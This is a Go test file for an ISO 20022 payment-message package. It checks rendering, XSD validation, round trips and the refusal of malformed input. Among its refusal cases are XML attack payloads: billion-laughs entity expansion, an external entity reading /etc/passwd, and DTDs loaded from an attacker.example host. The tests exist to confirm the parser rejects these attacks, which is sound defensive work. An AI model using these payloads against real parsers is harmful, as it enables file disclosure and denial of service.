package msg

import (
	"bytes"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"testing/iotest"
	"time"

	"github.com/hulian/hulian/internal/fault"
	"github.com/hulian/hulian/internal/money"
)

var update = flag.Bool("update", false, "rewrite the golden files")

var (
	cny = money.MustCurrency("CNY")
	jpy = money.MustCurrency("JPY")
	kwd = money.MustCurrency("KWD")
	t0  = time.Date(2026, 12, 7, 1, 2, 3, 456000000, time.UTC)
)

// samples are the golden messages: each is rendered, compared with
// testdata/<name>.xml, validated against its XSD and parsed back.
func samples() map[string]Document {
	return map[string]Document{
		"pacs.008": &CreditTransfer{
			MsgID: "BANKA-20261207-0001", Created: t0, SettlementMethod: "CLRG",
			Transactions: []CreditTransaction{
				{
					InstrID: "I-1", EndToEndID: "E2E-1", TxID: "0193a5b07c1e70008000000000000001",
					Amount: 12345, Currency: cny, ChargeBearer: "SLEV",
					DebtorName: "Li Wei", DebtorAgent: "bank-a", CreditorAgent: "wallet-b", CreditorName: "王芳",
					CreditorAccount: &Account{ID: "+8613800138000", Scheme: "MSISDN"},
					Note:            "dinner",
				},
				{
					EndToEndID: "NOTPROVIDED", TxID: "0193a5b07c1e70008000000000000002",
					Amount: 1, Currency: cny, ChargeBearer: "SLEV",
					DebtorAgent: "bank-a", CreditorAgent: "wallet-b",
					CreditorAccount: &Account{ID: "fang@example.com", ProxyType: "EMAIL", ProxyID: "fang@example.com"},
					Note:            strings.Repeat("租金", 80) + " & <ok>",
				},
				{
					EndToEndID: "E2E-3", TxID: "0193a5b07c1e70008000000000000003",
					Amount: 500000, Currency: cny, ChargeBearer: "SLEV",
					DebtorAgent: "bank-a", CreditorAgent: "bank-c",
					CreditorAccount: &Account{ID: "6222020200112233"},
				},
				{
					EndToEndID: "E2E-4", TxID: "0193a5b07c1e70008000000000000004",
					Amount: 100, Currency: money.MustCurrency("EUR"), ChargeBearer: "SLEV",
					DebtorAgent: "bank-a", CreditorAgent: "bank-d",
					CreditorAccount: &Account{IBAN: "DE89370400440532013000"},
				},
			},
		},
		"pacs.002": &StatusReport{
			MsgID: "HULIAN-R-0001", Created: t0,
			Originals: []OriginalGroup{{MsgID: "BANKA-20261207-0001", Type: TypeCreditTransfer}},
			Transactions: []TxStatus{
				{OrigInstrID: "I-1", OrigEndToEndID: "E2E-1", OrigTxID: "0193a5b07c1e70008000000000000001", Status: "ACSC"},
				{OrigEndToEndID: "NOTPROVIDED", OrigTxID: "0193a5b07c1e70008000000000000002", Status: "RJCT", Reason: "AM04", Info: "insufficient funds"},
				{OrigEndToEndID: "E2E-3", OrigTxID: "0193a5b07c1e70008000000000000003", Status: "PDNG"},
			},
		},
		"pacs.004": &PaymentReturn{
			MsgID: "BANKC-RTR-0001", Created: t0, SettlementMethod: "CLRG",
			Transactions: []ReturnTransaction{{
				ReturnID: "RTR-1", OrigEndToEndID: "E2E-3", OrigTxID: "0193a5b07c1e70008000000000000003",
				Amount: 250000, Currency: cny, Reason: "AC04", Info: "account closed",
			}},
		},
		"camt.053": &BankStatement{
			MsgID: "HULIAN-S-bank-a-CNY-20261207", Created: t0,
			Statements: []AccountStatement{{
				ID: "bank-a-CNY-20261207", Page: 2, LastPage: true, Created: t0,
				Account: Account{ID: "bank-a/settlement", Scheme: "HULIAN"}, Currency: cny,
				Balances: []Balance{
					{Type: "OPBD", Amount: 100000000, Currency: cny, Indicator: Credit, Date: Date(2026, 12, 7)},
					{Type: "CLBD", Amount: 99897555, Currency: cny, Indicator: Credit, Date: Date(2026, 12, 7)},
				},
				Entries: []Entry{
					{Amount: 12345, Currency: cny, Indicator: Debit, Status: "BOOK",
						Booked: DateOrTime{Time: t0}, Value: Date(2026, 12, 7), Code: "PAYMENT",
						EndToEndID: "E2E-1", TxID: "0193a5b07c1e70008000000000000001"},
					{Ref: "fee-1", Amount: 100, Currency: cny, Indicator: Debit, Status: "BOOK",
						Booked: Date(2026, 12, 7), Code: "FEE", TxID: "0193a5b07c1e70008000000000000001"},
					{Amount: 10000, Currency: cny, Indicator: Credit, Status: "BOOK",
						Booked: Date(2026, 12, 7), Code: "DEPOSIT", TxID: "dep-7", Info: "top-up from the settlement bank"},
					{Amount: 100000, Currency: cny, Indicator: Debit, Status: "BOOK",
						Booked: Date(2026, 12, 7), Code: "WITHDRAWAL", TxID: "wd-3"},
				},
			}},
		},
	}
}

func TestGolden(t *testing.T) {
	for name, want := range samples() {
		t.Run(name, func(t *testing.T) {
			got, err := Marshal(want)
			if err != nil {
				t.Fatalf("Marshal: %v", err)
			}
			path := filepath.Join("testdata", name+".xml")
			if *update {
				if err := os.WriteFile(path, got, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			golden, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run with -update to create it)", err)
			}
			if !bytes.Equal(got, golden) {
				t.Errorf("Marshal differs from %s (run with -update if intended):\n%s", path, got)
			}
			validate(t, want.Type(), golden)
			doc, err := Parse(bytes.NewReader(golden), 1<<20)
			if err != nil {
				t.Fatalf("Parse(%s): %v", path, err)
			}
			if !reflect.DeepEqual(doc, want) {
				t.Errorf("Parse(%s) =\n%+v\nwant\n%+v", path, doc, want)
			}
		})
	}
}

// xsd returns the path of the official schema of t.
func xsd(t Type) string { return filepath.Join("testdata", "xsd", string(t)+".xsd") }

// validate checks data against the official XSD of typ with xmllint.
func validate(t *testing.T, typ Type, data []byte) {
	t.Helper()
	if _, err := exec.LookPath("xmllint"); err != nil {
		if os.Getenv("HULIAN_REQUIRE_XMLLINT") != "" {
			t.Fatal("xmllint is missing, and scripts/test.sh requires it: apt-get install -y libxml2-utils")
		}
		t.Skip("xmllint is missing: apt-get install -y libxml2-utils")
	}
	f := filepath.Join(t.TempDir(), "doc.xml")
	if err := os.WriteFile(f, data, 0o644); err != nil {
		t.Fatal(err)
	}
	out, err := exec.Command("xmllint", "--noout", "--nonet", "--schema", xsd(typ), f).CombinedOutput()
	if err != nil {
		t.Fatalf("xmllint --schema %s: %v\n%s\ndocument:\n%.3000s", xsd(typ), err, out, data)
	}
}

// TestRenderValid renders the messages the gateway produces in all their
// variants — every status and reason code, a batch of 1,000, currencies of
// every exponent, balances on the debit side — and validates each with
// the XSD and a round trip.
func TestRenderValid(t *testing.T) {
	reasons := []string{"AM04", "AC01", "AG01", "AM02", "AM03", "RR04", "AB05", "DUPL", "FF01"}
	report := &StatusReport{MsgID: "R", Created: t0, Originals: []OriginalGroup{{MsgID: "M", Type: TypeCreditTransfer}}}
	for _, r := range reasons {
		report.Transactions = append(report.Transactions, TxStatus{OrigEndToEndID: "E-" + r, OrigTxID: "T-" + r, Status: "RJCT", Reason: r})
	}
	report.Transactions = append(report.Transactions, TxStatus{OrigTxID: "ok", Status: "ACSC"}, TxStatus{OrigTxID: "held", Status: "PDNG"})
	batch := &CreditTransfer{MsgID: "BATCH", Created: t0, SettlementMethod: "CLRG"}
	answer := &StatusReport{MsgID: "BATCH-R", Created: t0, Originals: []OriginalGroup{{MsgID: "BATCH", Type: TypeCreditTransfer}}}
	for i := range MaxTransactions {
		id := fmt.Sprintf("tx-%04d", i)
		batch.Transactions = append(batch.Transactions, CreditTransaction{
			EndToEndID: "NOTPROVIDED", TxID: id, Amount: money.Amount(i + 1), Currency: cny, ChargeBearer: "SLEV",
			DebtorAgent: "bank-a", CreditorAgent: "wallet-b", CreditorAccount: &Account{ID: fmt.Sprintf("+86138%08d", i), Scheme: "MSISDN"},
		})
		answer.Transactions = append(answer.Transactions, TxStatus{OrigEndToEndID: "NOTPROVIDED", OrigTxID: id, Status: "ACSC"})
	}
	currencies := &CreditTransfer{MsgID: "CCY", Created: t0.In(time.FixedZone("CST", 8*3600)), SettlementMethod: "CLRG"}
	for _, c := range []struct {
		cur money.Currency
		amt money.Amount
	}{{jpy, 1}, {jpy, 999_999_999_999_999_999}, {cny, 1}, {kwd, 1}, {kwd, 123_456_789}} {
		currencies.Transactions = append(currencies.Transactions, CreditTransaction{
			EndToEndID: "E", TxID: "T" + c.cur.String(), Amount: c.amt, Currency: c.cur, ChargeBearer: "SLEV",
		})
	}
	// An FX payment's credit: the payee's amount to settle, what the
	// debtor instructed in its currency, the rate and the purpose.
	fxCredit := &CreditTransfer{MsgID: "FX", Created: t0, SettlementMethod: "CLRG", Transactions: []CreditTransaction{{
		EndToEndID: "E", TxID: "fx-1", Amount: 10850, Currency: money.MustCurrency("HKD"), ChargeBearer: "SLEV",
		InstructedAmount: 10000, InstructedCurrency: cny, ExchangeRate: "1.085", Purpose: "FAMI",
		DebtorAgent: "wallet-a", CreditorAgent: "wallet-h", CreditorAccount: &Account{ID: "hk-1"},
	}, {
		EndToEndID: "E", TxID: "fx-2", Amount: 1, Currency: jpy, ChargeBearer: "SLEV",
		InstructedAmount: 999_999, InstructedCurrency: kwd, ExchangeRate: "0.0000000001", Purpose: "SUPP",
	}, {
		EndToEndID: "E", TxID: "fx-3", Amount: 1, Currency: jpy, ChargeBearer: "SLEV", ExchangeRate: "99999999999",
	}}}
	overdrawn := &BankStatement{MsgID: "S", Created: t0, Statements: []AccountStatement{{
		ID: "S1", Account: Account{ID: "a"},
		Balances: []Balance{
			{Type: "OPBD", Amount: 0, Currency: cny, Indicator: Credit, Date: Date(2026, 12, 7)},
			{Type: "CLBD", Amount: 500, Currency: cny, Indicator: Debit, Date: DateOrTime{Time: t0}},
		},
		Entries: []Entry{{Amount: 500, Currency: cny, Indicator: Debit, Status: "BOOK"}},
	}}}
	for _, tc := range []struct {
		name string
		doc  Document
	}{
		{"every reason code", report},
		{"batch of 1000", batch},
		{"answer to a batch of 1000", answer},
		{"every exponent", currencies},
		{"an FX credit", fxCredit},
		{"overdrawn statement", overdrawn},
	} {
		t.Run(tc.name, func(t *testing.T) {
			b, err := Marshal(tc.doc)
			if err != nil {
				t.Fatalf("Marshal: %v", err)
			}
			validate(t, tc.doc.Type(), b)
			back, err := Parse(bytes.NewReader(b), 4<<20)
			if err != nil {
				t.Fatalf("Parse: %v", err)
			}
			b2, err := Marshal(back)
			if err != nil || !bytes.Equal(b, b2) {
				t.Errorf("round trip changed the document (err %v)", err)
			}
		})
	}
	if got := batch.Transactions[999].Amount; got != 1000 {
		t.Fatalf("batch amount %d", got)
	}
}

// TestParseAccepts feeds documents that the XSD accepts but the switch
// never writes: prefixes, schema locations, unmodelled elements, the
// lexical freedom of xs:decimal and xs:dateTime.
func TestParseAccepts(t *testing.T) {
	golden, err := os.ReadFile("testdata/pacs.008.xml")
	if err != nil {
		t.Fatal(err)
	}
	g := string(golden)
	for _, tc := range []struct {
		name string
		doc  string
		// check inspects the first transaction.
		check func(*CreditTransfer) error
	}{
		{"as rendered", g, nil},
		{"prefixed with xsi", strings.Replace(regexp.MustCompile(`<(/?)([A-Z])`).ReplaceAllString(g, "<${1}p:$2"),
			`<p:Document xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.09">`,
			`<p:Document xmlns:p="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.09" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.09 pacs.008.001.09.xsd">`, 1), nil},
		{"xs:decimal forms", strings.Replace(g, `>123.45<`, `> +0123.45 <`, 1), amountIs(12345)},
		{"no integer digits", strings.Replace(g, `>123.45<`, `>.5<`, 1), amountIs(50)},
		{"no decimals after point", strings.Replace(g, `>123.45<`, `>7.<`, 1), amountIs(700)},
		{"local time", strings.Replace(g, `2026-12-07T01:02:03.456Z`, `2026-12-07T09:02:03.456+08:00`, 1), nil},
		{"no time zone", strings.Replace(g, `2026-12-07T01:02:03.456Z`, `2026-12-07T01:02:03.456`, 1), nil},
		{"unmodelled elements", strings.Replace(g, `<IntrBkSttlmAmt Ccy="CNY">123.45</IntrBkSttlmAmt>`,
			`<PmtTpInf><SvcLvl><Cd>SEPA</Cd></SvcLvl></PmtTpInf><IntrBkSttlmAmt Ccy="CNY">123.45</IntrBkSttlmAmt><IntrBkSttlmDt>2026-12-07</IntrBkSttlmDt>`, 1), nil},
		{"supplementary data in another namespace", strings.Replace(g, `</CdtTrfTxInf>`,
			`<SplmtryData><Envlp><x:Ext xmlns:x="urn:example" x:a="1"><x:B>b</x:B></x:Ext></Envlp></SplmtryData></CdtTrfTxInf>`, 1), nil},
		{"comments", strings.Replace(g, `<GrpHdr>`, `<!-- header --><GrpHdr>`, 1), nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			validate(t, TypeCreditTransfer, []byte(tc.doc))
			doc, err := Parse(strings.NewReader(tc.doc), 1<<20)
			if err != nil {
				t.Fatalf("Parse: %v", err)
			}
			ct := doc.(*CreditTransfer)
			if !ct.Created.Equal(t0) {
				t.Errorf("Created = %v, want %v", ct.Created, t0)
			}
			if tc.check != nil {
				if err := tc.check(ct); err != nil {
					t.Error(err)
				}
			}
		})
	}
}

func amountIs(want money.Amount) func(*CreditTransfer) error {
	return func(ct *CreditTransfer) error {
		if got := ct.Transactions[0].Amount; got != want {
			return fmt.Errorf("amount = %d, want %d", got, want)
		}
		return nil
	}
}

// TestParseRefuses feeds hostile and invalid documents; each must be
// refused with the named error and the kind Invalid.
func TestParseRefuses(t *testing.T) {
	read := func(name string) string {
		b, err := os.ReadFile(filepath.Join("testdata", name))
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	p008, p002, p004, c053 := read("pacs.008.xml"), read("pacs.002.xml"), read("pacs.004.xml"), read("camt.053.xml")
	rep := func(s, old, new string) string {
		if !strings.Contains(s, old) {
			t.Fatalf("test input lacks %q", old)
		}
		return strings.Replace(s, old, new, 1)
	}
	afterDecl := func(s, insert string) string { return rep(s, "?>\n", "?>\n"+insert) }
	const amt1 = `<IntrBkSttlmAmt Ccy="CNY">123.45</IntrBkSttlmAmt>`
	deep := rep(p008, "<RmtInf>", "<RmtInf>"+strings.Repeat("<Ustrd>", 100)+strings.Repeat("</Ustrd>", 100))
	var many strings.Builder
	for range MaxTransactions + 1 {
		many.WriteString(`<CdtTrfTxInf><PmtId><EndToEndId>E</EndToEndId></PmtId>` + amt1 + `<ChrgBr>SLEV</ChrgBr><Dbtr/><DbtrAgt><FinInstnId/></DbtrAgt><CdtrAgt><FinInstnId/></CdtrAgt><Cdtr/></CdtTrfTxInf>`)
	}
	tooMany := `<?xml version="1.0" encoding="UTF-8"?><Document xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.09"><FIToFICstmrCdtTrf><GrpHdr><MsgId>M</MsgId><CreDtTm>2026-12-07T00:00:00Z</CreDtTm><NbOfTxs>1001</NbOfTxs><SttlmInf><SttlmMtd>CLRG</SttlmMtd></SttlmInf></GrpHdr>` + many.String() + `</FIToFICstmrCdtTrf></Document>`
	for _, tc := range []struct {
		name string
		doc  string
		want error
	}{
		{"empty", "", ErrMalformed},
		{"not XML", "hello", ErrMalformed},
		{"truncated", p008[:len(p008)/2], ErrMalformed},
		{"mismatched tags", rep(p008, "</MsgId>", "</MsgID>"), ErrMalformed},
		{"two roots", p008 + p008[strings.Index(p008, "<Document"):], ErrMalformed},
		{"text after root", p008 + "junk", ErrMalformed},
		{"Latin-1", rep(p008, `encoding="UTF-8"`, `encoding="ISO-8859-1"`), ErrMalformed},
		{"billion laughs", afterDecl(rep(p008, "<MsgId>BANKA-20261207-0001</MsgId>", "<MsgId>&lol9;</MsgId>"),
			`<!DOCTYPE Document [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">`+
				`<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol9 "&lol2;&lol2;">]>`), ErrDTD},
		{"external entity", afterDecl(rep(p008, "<MsgId>BANKA-20261207-0001</MsgId>", "<MsgId>&xxe;</MsgId>"),
			`<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`), ErrDTD},
		{"parameter entity", afterDecl(p008, `<!DOCTYPE Document [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>`), ErrDTD},
		{"external DTD", afterDecl(p008, `<!DOCTYPE Document SYSTEM "http://attacker.example/x.dtd">`), ErrDTD},
		{"undeclared entity", rep(p008, "BANKA-20261207-0001", "&xxe;"), ErrMalformed},
		{"deep nesting", deep, ErrTooDeep},
		{"huge attribute", rep(p008, `<Document `, `<Document a="`+strings.Repeat("x", 4000)+`" `), ErrTooDeep},
		{"repeated attribute", rep(p008, `Ccy="CNY"`, `Ccy="CNY" Ccy="USD"`), ErrMalformed},
		{"rate of 12 digits", rep(p008, amt1, amt1+`<XchgRate>1.12345678901</XchgRate>`), ErrSchema},
		{"rate of 11 decimals", rep(p008, amt1, amt1+`<XchgRate>0.12345678901</XchgRate>`), ErrSchema},
		{"negative rate", rep(p008, amt1, amt1+`<XchgRate>-1.5</XchgRate>`), ErrSchema},
		{"repeated rate", rep(p008, amt1, amt1+`<XchgRate>1.5</XchgRate><XchgRate>1.5</XchgRate>`), ErrSchema},
		{"zero instructed amount", rep(p008, amt1, amt1+`<InstdAmt Ccy="CNY">0</InstdAmt>`), ErrAmount},
		{"long purpose", rep(p008, "<RmtInf>", "<Purp><Cd>SALARY</Cd></Purp><RmtInf>"), ErrSchema},
		{"unknown attribute", rep(p008, `<MsgId>`, `<MsgId foo="1">`), ErrSchema},
		{"processing instruction", afterDecl(p008, `<?evil x?>`), ErrSchema},
		{"wrong namespace", rep(p008, "pacs.008.001.09", "pacs.008.001.08"), ErrUnknownMessage},
		{"no namespace", rep(p008, ` xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.09"`, ``), ErrUnknownMessage},
		{"wrong root", rep(rep(p008, "<Document ", "<Doc "), "</Document>", "</Doc>"), ErrUnknownMessage},
		{"foreign element", rep(p008, "<MsgId>", `<x:MsgId xmlns:x="urn:evil">X</x:MsgId><MsgId>`), ErrUnknownMessage},
		{"camt.052", rep(c053, "camt.053.001.08", "camt.052.001.08"), ErrUnknownMessage},
		{"wrong message in namespace", rep(rep(p008, "<FIToFICstmrCdtTrf>", "<PmtRtr>"), "</FIToFICstmrCdtTrf>", "</PmtRtr>"), ErrSchema},
		{"missing MsgId", rep(p008, "<MsgId>BANKA-20261207-0001</MsgId>", ""), ErrSchema},
		{"repeated MsgId", rep(p008, "<MsgId>BANKA-20261207-0001</MsgId>", "<MsgId>A</MsgId><MsgId>B</MsgId>"), ErrSchema},
		{"repeated amount", rep(p008, amt1, amt1+`<IntrBkSttlmAmt Ccy="CNY">1.00</IntrBkSttlmAmt>`), ErrSchema},
		{"repeated PmtId", rep(p008, "<PmtId>", "<PmtId><EndToEndId>X</EndToEndId></PmtId><PmtId>"), ErrSchema},
		{"empty MsgId", rep(p008, "<MsgId>BANKA-20261207-0001</MsgId>", "<MsgId></MsgId>"), ErrSchema},
		{"long MsgId", rep(p008, "BANKA-20261207-0001", strings.Repeat("M", 36)), ErrSchema},
		{"missing EndToEndId", rep(p008, "<EndToEndId>E2E-1</EndToEndId>", ""), ErrSchema},
		{"bad time", rep(p008, "2026-12-07T01:02:03.456Z", "yesterday"), ErrSchema},
		{"bad settlement method", rep(p008, "<SttlmMtd>CLRG</SttlmMtd>", "<SttlmMtd>CASH</SttlmMtd>"), ErrSchema},
		{"bad charge bearer", rep(p008, "<ChrgBr>SLEV</ChrgBr>", "<ChrgBr>ALL</ChrgBr>"), ErrSchema},
		{"missing Dbtr", rep(p008, "<Dbtr>\n        <Nm>Li Wei</Nm>\n      </Dbtr>", ""), ErrSchema},
		{"NbOfTxs too high", rep(p008, "<NbOfTxs>4</NbOfTxs>", "<NbOfTxs>5</NbOfTxs>"), ErrTxCount},
		{"NbOfTxs not numeric", rep(p008, "<NbOfTxs>4</NbOfTxs>", "<NbOfTxs>three</NbOfTxs>"), ErrSchema},
		{"more than 1000 transactions", tooMany, ErrTxCount},
		{"zero amount", rep(p008, ">123.45<", ">0.00<"), ErrAmount},
		{"negative amount", rep(p008, ">123.45<", ">-123.45<"), ErrAmount},
		{"three decimals for CNY", rep(p008, ">123.45<", ">123.450<"), ErrAmount},
		{"decimals for JPY", rep(p008, `Ccy="CNY">123.45<`, `Ccy="JPY">123.4<`), ErrAmount},
		{"exponent", rep(p008, ">123.45<", ">1.2345E2<"), ErrAmount},
		{"19 digits", rep(p008, `Ccy="CNY">123.45<`, `Ccy="JPY">1234567890123456789<`), ErrAmount},
		{"empty amount", rep(p008, ">123.45<", "><"), ErrAmount},
		{"lower-case currency", rep(p008, `Ccy="CNY"`, `Ccy="cny"`), ErrCurrency},
		{"unknown currency", rep(p008, `Ccy="CNY"`, `Ccy="ABC"`), ErrCurrency},
		{"missing currency", rep(p008, ` Ccy="CNY"`, ``), ErrCurrency},
		{"IBAN and Othr", rep(p008, "<Othr>\n            <Id>6222020200112233</Id>", "<IBAN>DE89370400440532013000</IBAN><Othr>\n            <Id>6222020200112233</Id>"), ErrSchema},
		{"proxy without id", rep(p008, "<Id>fang@example.com</Id>\n        </Prxy>", "</Prxy>"), ErrSchema},
		{"long note line", rep(p008, "<Ustrd>dinner</Ustrd>", "<Ustrd>"+strings.Repeat("x", 141)+"</Ustrd>"), ErrSchema},
		{"mixed content", rep(p008, "<TxId>0193a5b07c1e70008000000000000001</TxId>", "<TxId>0193a5b0<X/>7c1e70008000000000000001</TxId>"), ErrSchema},
		{"text in a complex element", rep(p008, "<PmtId>", "<PmtId>junk"), ErrSchema},
		{"pacs.002 reason too long", rep(p002, "<Cd>AM04</Cd>", "<Cd>AM045</Cd>"), ErrSchema},
		{"pacs.002 missing OrgnlMsgNmId", rep(p002, "<OrgnlMsgNmId>pacs.008.001.09</OrgnlMsgNmId>", ""), ErrSchema},
		{"pacs.004 amount decimals", rep(p004, ">2500.00<", ">2500.001<"), ErrAmount},
		{"pacs.004 NbOfTxs", rep(p004, "<NbOfTxs>1</NbOfTxs>", "<NbOfTxs>2</NbOfTxs>"), ErrTxCount},
		{"camt.053 entry status as text", rep(c053, "<Sts>\n          <Cd>BOOK</Cd>\n        </Sts>", "<Sts>BOOK</Sts>"), ErrSchema},
		{"camt.053 bad indicator", rep(c053, "<CdtDbtInd>DBIT</CdtDbtInd>", "<CdtDbtInd>DEBIT</CdtDbtInd>"), ErrSchema},
		{"camt.053 no balance", c053[:strings.Index(c053, "<Bal>")] + c053[strings.LastIndex(c053, "</Bal>")+len("</Bal>"):], ErrSchema},
		{"camt.053 both Dt and DtTm", rep(c053, "<Dt>2026-12-07</Dt>", "<Dt>2026-12-07</Dt><DtTm>2026-12-07T00:00:00Z</DtTm>"), ErrSchema},
		{"camt.053 bad date", rep(c053, "<Dt>2026-12-07</Dt>", "<Dt>2026-13-07</Dt>"), ErrSchema},
		{"camt.053 missing BkTxCd", rep(c053, "<BkTxCd>\n          <Prtry>\n            <Cd>FEE</Cd>\n          </Prtry>\n        </BkTxCd>", ""), ErrSchema},
	} {
		t.Run(tc.name, func(t *testing.T) {
			doc, err := Parse(strings.NewReader(tc.doc), 1<<20)
			if !errors.Is(err, tc.want) {
				t.Fatalf("Parse = %v, %v; want %v", doc, err, tc.want)
			}
			if beyondXSD[tc.name] {
				return
			}
			// The parser must not be laxer than the XSD: xmllint refuses
			// every document the switch refuses for breaking it.
			if _, err := exec.LookPath("xmllint"); err != nil {
				t.Skip("xmllint is missing: apt-get install -y libxml2-utils")
			}
			typ := TypeCreditTransfer
			for _, x := range []Type{TypeStatusReport, TypePaymentReturn, TypeBankStatement} {
				if strings.HasPrefix(tc.name, string(x)[:8]) {
					typ = x
				}
			}
			f := filepath.Join(t.TempDir(), "doc.xml")
			if err := os.WriteFile(f, []byte(tc.doc), 0o644); err != nil {
				t.Fatal(err)
			}
			if out, err := exec.Command("xmllint", "--noout", "--nonet", "--schema", xsd(typ), f).CombinedOutput(); err == nil {
				t.Errorf("xmllint accepts what Parse refuses as a schema breach:\n%s", out)
			}
			if k := fault.KindOf(err); k != fault.Invalid {
				t.Errorf("kind %v, want invalid", k)
			}
			if c := fault.CodeOf(err); c != "invalid-request" {
				t.Errorf("code %q, want invalid-request", c)
			}
		})
	}
}

// beyondXSD names the refusals of TestParseRefuses that the XSD alone
// would accept: the switch's own limits and its defences.
var beyondXSD = map[string]bool{
	"Latin-1": true, "billion laughs": true, "external entity": true, "parameter entity": true,
	"external DTD": true, "processing instruction": true, "NbOfTxs too high": true,
	"more than 1000 transactions": true, "zero amount": true, "negative rate": true, "zero instructed amount": true, "three decimals for CNY": true,
	"decimals for JPY": true, "unknown currency": true, "pacs.004 amount decimals": true, "pacs.004 NbOfTxs": true,
}

func TestParseTooLarge(t *testing.T) {
	golden, err := os.ReadFile("testdata/pacs.008.xml")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Parse(bytes.NewReader(golden), int64(len(golden))); err != nil {
		t.Fatalf("Parse at exactly the bound: %v", err)
	}
	for _, max := range []int64{int64(len(golden)) - 1, 0, -1} {
		if _, err := Parse(bytes.NewReader(golden), max); !errors.Is(err, ErrTooLarge) {
			t.Errorf("Parse with bound %d = %v, want ErrTooLarge", max, err)
		}
	}
	// A stream that never ends is cut at the bound.
	if _, err := Parse(endless{}, 1<<20); !errors.Is(err, ErrTooLarge) {
		t.Errorf("Parse(endless) = %v, want ErrTooLarge", err)
	}
}

func TestParseReadError(t *testing.T) {
	boom := errors.New("connection reset")
	_, err := Parse(io.MultiReader(strings.NewReader("<Doc"), iotest.ErrReader(boom)), 1<<20)
	if !errors.Is(err, boom) || errors.Is(err, ErrMalformed) {
		t.Fatalf("Parse = %v, want the reader's error unchanged", err)
	}
}

type endless struct{}

func (endless) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = ' '
	}
	return len(p), nil
}

// TestMarshalRefuses checks that Marshal will not render what the XSD
// refuses.
func TestMarshalRefuses(t *testing.T) {
	ok := func() *CreditTransfer { return samples()["pacs.008"].(*CreditTransfer) }
	for _, tc := range []struct {
		name string
		edit func(*CreditTransfer)
		want error
	}{
		{"no transactions", func(c *CreditTransfer) { c.Transactions = nil }, ErrTxCount},
		{"1001 transactions", func(c *CreditTransfer) {
			for len(c.Transactions) <= MaxTransactions {
				c.Transactions = append(c.Transactions, c.Transactions[0])
			}
		}, ErrTxCount},
		{"empty MsgId", func(c *CreditTransfer) { c.MsgID = "" }, ErrSchema},
		{"long TxId", func(c *CreditTransfer) { c.Transactions[0].TxID = strings.Repeat("x", 36) }, ErrSchema},
		{"control character", func(c *CreditTransfer) { c.Transactions[0].DebtorName = "a\x00b" }, ErrSchema},
		{"invalid UTF-8", func(c *CreditTransfer) { c.Transactions[0].CreditorName = "\xff" }, ErrSchema},
		{"zero time", func(c *CreditTransfer) { c.Created = time.Time{} }, ErrSchema},
		{"zero amount", func(c *CreditTransfer) { c.Transactions[0].Amount = 0 }, ErrAmount},
		{"negative amount", func(c *CreditTransfer) { c.Transactions[0].Amount = -1 }, ErrAmount},
		{"19 digits", func(c *CreditTransfer) { c.Transactions[0].Amount = 1_000_000_000_000_000_000 }, ErrAmount},
		{"no currency", func(c *CreditTransfer) { c.Transactions[0].Currency = 0 }, ErrCurrency},
		{"bad charge bearer", func(c *CreditTransfer) { c.Transactions[0].ChargeBearer = "X" }, ErrSchema},
		{"IBAN and id", func(c *CreditTransfer) { c.Transactions[0].CreditorAccount.IBAN = "DE89370400440532013000" }, ErrSchema},
		{"bad IBAN", func(c *CreditTransfer) { c.Transactions[3].CreditorAccount.IBAN = "de89" }, ErrSchema},
		{"bad settlement method", func(c *CreditTransfer) { c.SettlementMethod = "X" }, ErrSchema},
		{"zero instructed amount", func(c *CreditTransfer) { c.Transactions[0].InstructedCurrency = cny }, ErrAmount},
		{"rate of 12 digits", func(c *CreditTransfer) { c.Transactions[0].ExchangeRate = "123456.123456" }, ErrSchema},
		{"rate of 11 decimals", func(c *CreditTransfer) { c.Transactions[0].ExchangeRate = "0.00000000001" }, ErrSchema},
		{"zero rate", func(c *CreditTransfer) { c.Transactions[0].ExchangeRate = "0.00" }, ErrSchema},
		{"signed rate", func(c *CreditTransfer) { c.Transactions[0].ExchangeRate = "+1.2" }, ErrSchema},
		{"long purpose", func(c *CreditTransfer) { c.Transactions[0].Purpose = "SALAR" }, ErrSchema},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := ok()
			tc.edit(c)
			if b, err := Marshal(c); !errors.Is(err, tc.want) {
				t.Fatalf("Marshal = %.200s, %v; want %v", b, err, tc.want)
			}
		})
	}
	if _, err := Marshal(nil); !errors.Is(err, ErrSchema) {
		t.Errorf("Marshal(nil) = %v", err)
	}
	st := samples()["camt.053"].(*BankStatement)
	st.Statements[0].Balances[0].Indicator = ""
	if _, err := Marshal(st); !errors.Is(err, ErrSchema) {
		t.Errorf("Marshal(statement without indicator) = %v", err)
	}
}

// TestStatementArithmetic checks the golden statement's own promise:
// closing = opening + credits − debits.
func TestStatementArithmetic(t *testing.T) {
	s := samples()["camt.053"].(*BankStatement).Statements[0]
	sum := s.Balances[0].Signed()
	for _, e := range s.Entries {
		sum += e.Signed()
	}
	if sum != s.Balances[1].Signed() {
		t.Fatalf("opening + entries = %d, closing %d", sum, s.Balances[1].Signed())
	}
}
